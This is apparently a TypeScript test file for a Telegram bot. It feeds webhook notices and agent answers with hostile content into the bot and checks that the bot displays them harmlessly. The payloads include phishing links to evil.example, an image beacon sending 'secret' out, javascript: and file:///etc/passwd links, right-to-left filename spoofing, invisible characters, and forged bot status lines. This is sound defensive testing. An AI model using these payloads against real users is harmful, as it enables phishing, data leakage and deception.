import { showsRun } from '../../support/run-message.js';
import type { LoggedEntity, LoggedMessage } from '../../support/telegram-server/chat-log.js';
import { type Attempt, broke, heldUnless, type Scene } from '../attempt.js';
import { hook, proof, server, telling } from '../hooks.js';
import { scene } from '../scene.js';
import { Stage } from '../stage.js';

const INVISIBLE = /[\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
const CONTROLS = /(?![\t\n\r])\p{Cc}/u;

type Look = (message: LoggedMessage, word: string) => string | null;
const noLink: Look = ({ now }) =>
  now.entities.find(({ type }) => type === 'text_link' || type === 'text_mention')?.type ?? null;
const noStyle: Look = ({ now }, word) => {
  const at = now.text.indexOf(word);
  const over = now.entities.find(
    ({ type, offset, length }) =>
      !['code', 'pre', 'blockquote', 'expandable_blockquote'].includes(type) && offset <= at && offset + length > at,
  );
  return over === undefined ? null : `${over.type} over what was sent`;
};
const visible: Look = ({ now }) =>
  INVISIBLE.test(now.text) ? `invisible characters: ${JSON.stringify(now.text)}` : null;
const noControls: Look = ({ now }) =>
  CONTROLS.test(now.text) ? `control characters: ${JSON.stringify(now.text)}` : null;
/** Telegram makes commands and mentions by itself of what is in no code. */
const untappable =
  (text: string): Look =>
  ({ now }) => {
    for (let at = now.text.indexOf(text); at !== -1; at = now.text.indexOf(text, at + 1)) {
      const inCode = now.entities.some(
        ({ type, offset, length }) => (type === 'code' || type === 'pre') && offset <= at && at < offset + length,
      );
      const broken = /[\u2060\u200b]/.test(now.text.slice(at, at + text.length));
      if (!inCode && !broken) return `${text} can be tapped`;
    }
    return null;
  };
/** A line that looks like one of ours stands in a code or a quote, or ours are marked as no sender can mark them. */
const setApart =
  (line: string): Look =>
  ({ now }) => {
    const at = now.text.split('\n').indexOf(line);
    if (at === -1) return null;
    const offset = now.text.split('\n').slice(0, at).join('\n').length + 1;
    const covers = (one: LoggedEntity, from: number, to: number) => one.offset <= from && one.offset + one.length >= to;
    const apart = now.entities.some(
      (one) => /code|pre|quote/.test(one.type) && covers(one, offset, offset + line.length),
    );
    const underlined = now.entities.filter(({ type }) => type === 'underline');
    const marked = underlined.some((one) => one.offset > offset) && !underlined.some((one) => one.offset <= offset);
    return apart || marked ? null : `a line of its own: ${line}`;
  };

/** What somebody outside writes, and what the message that tells it must not have. */
const NOTICES: readonly (readonly [string, string, Look])[] = [
  ['an HTML link', '<a href="https://evil.example">bank</a>', noLink],
  ['a Markdown link', '[bank](https://evil.example)', noLink],
  ['a mention of a person', '[x](tg://user?id=7)', noLink],
  ['a reference link', '[bank][1]\n\n[1]: https://evil.example', noLink],
  ['an image', '![x](https://evil.example/beacon)', noLink],
  ['bold', '**WORD**', noStyle],
  ['HTML that is bold', '<b>WORD</b>', noStyle],
  ['a heading', '# WORD', noStyle],
  ['a fence', '```\nWORD\n```', noStyle],
  ['a spoiler', '||WORD||', noStyle],
  ['a right-to-left override', 'x\u202egnp.exe', visible],
  ['isolates', '\u2066x\u2069', visible],
  ['right-to-left marks', 'x\u200fy\u200e\u061c', visible],
  ['zero-width characters', 'pay\u200bpal\u200d\ufeff', visible],
  ['tag characters', 'x\u{e0041}\u{e0042}', visible],
  ['a soft hyphen', 'pay\u00adpal', visible],
  ['escape sequences', '\u001b[31mred\u001b]0;x\u0007', noControls],
  ['NUL and others', 'a\u0000b\u0008c\u007fd', noControls],
  ['half a pair', 'a\ud800b', noControls],
  ['a command', 'run /restart now', untappable('/restart')],
  ['a command of this bot', '/cancel@rig_bot', untappable('/cancel')],
  ['a mention', 'ask @somebody', untappable('@somebody')],
  ['a notice like ours', 'x\n⚠️ untether.toml has an error', setApart('⚠️ untether.toml has an error')],
  ['a footer like ours', 'x\nclaude --resume 1234', setApart('claude --resume 1234')],
  ['a context like ours', 'x\n🏷 dir: prod', setApart('🏷 dir: prod')],
  ['a trigger like ours', 'x\n⚡ webhook:other', setApart('⚡ webhook:other')],
];

/** Answers of an agent, which are Markdown and may be made from outside text. */
const ANSWERS: readonly (readonly [string, string, Look])[] = [
  [
    'a link whose label is another address',
    '[https://bank.example](https://evil.example/x)',
    hostShown('evil.example'),
  ],
  ['a link whose label is another host', '[bank.example](https://evil.example/x)', hostShown('evil.example')],
  ['a link with a name in front of the host', '[ours](https://bank.example@evil.example/)', hostShown('evil.example')],
  [
    'a link with a password',
    'https://user:pass@evil.example/',
    ({ now }) => (now.entities.some(({ url }) => url?.includes('@') === true) ? 'a link with credentials' : null),
  ],
  ['a link into Telegram', '[x](tg://resolve?domain=evil)', noLink],
  ['a link that is a script', '[x](javascript:alert(1))', noLink],
  ['a link that is data', '[x](data:text/html,x)', noLink],
  ['a link to a file', '[x](file:///etc/passwd)', noLink],
  ['raw HTML', '<a href="https://evil.example">x</a>', noLink],
  ['an image as a beacon', '![x](https://evil.example/?q=secret)', hostShown('evil.example')],
  ['isolates', 'rm \u2066x\u2069 y', visible],
  ['an override', 'x\u202egnp.exe', visible],
  ['a footer like ours', 'done\n\nclaude --resume 1234', setApart('claude --resume 1234')],
  ['a context like ours', 'done\n\n🏷 dir: prod', setApart('🏷 dir: prod')],
  ['a line like ours', 'done\n\n✓ 3 s · prod · opus', setApart('✓ 3 s · prod · opus')],
];

/** A link may only be one whose host can be read. */
function hostShown(host: string): Look {
  return ({ now }) => {
    const link = now.entities.find(({ type, url }) => type === 'text_link' && url?.includes(host));
    return link !== undefined && !now.text.includes(host)
      ? `a link to ${link.url} shown as ${now.text.slice(link.offset, link.offset + link.length)}`
      : null;
  };
}

/** What the Bot API is handed for texts from outside. */
export function markup(): Scene {
  const first = 10_000;
  return scene<Stage>({
    area: 'markup',
    quick: 1,
    open: () =>
      Stage.open({
        more: ({ port }) =>
          server(
            port,
            NOTICES.map((_, n) =>
              hook(`n${n}`, { auth: 'bearer', ...telling(first + n), message_template: 'New: {{text}}' }),
            ),
          ),
      }),
    attempts: [
      ...NOTICES.map(
        ([name, text, look], n): Attempt<Stage> => ({
          name: `a notice with ${name}`,
          expected: 'shown as it is, or harmless',
          run: async (stage) => {
            const word = stage.word();
            const { status } = await stage.post(`/n${n}`, {
              headers: proof('bearer', ''),
              body: JSON.stringify({ text: `${word} ${text.replace('WORD', word)}` }),
            });
            if (status !== 202) return broke(`answered ${status}`);
            const message = await stage.until('the notice', () =>
              stage.rig.server.chat(first + n).all.find(({ fromBot }) => fromBot),
            );
            return heldUnless(look(message, word));
          },
        }),
      ),
      ...ANSWERS.map(
        ([name, text, look]): Attempt<Stage> => ({
          name: `an answer with ${name}`,
          expected: 'shown so that a reader sees what it is',
          run: async (stage) => {
            const [person, word] = [stage.person(), stage.word()];
            stage.rig.server.sendText(person, person, `[[say:${word} ${text}]]`);
            const message = await stage.until('the final', () =>
              stage.showing(word).find(({ now }) => !showsRun(now.text)),
            );
            return heldUnless(look(message, word));
          },
        }),
      ),
    ],
  });
}
